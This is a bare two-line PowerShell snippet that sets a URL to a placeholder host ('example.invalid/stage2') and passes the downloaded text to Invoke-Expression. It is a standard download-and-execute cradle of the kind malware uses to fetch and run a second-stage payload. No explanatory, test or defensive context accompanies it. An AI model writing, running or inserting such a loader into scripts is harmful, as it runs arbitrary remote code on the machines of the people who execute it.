$u = 'http://example.invalid/stage2'
IEX (New-Object Net.WebClient).DownloadString($u)
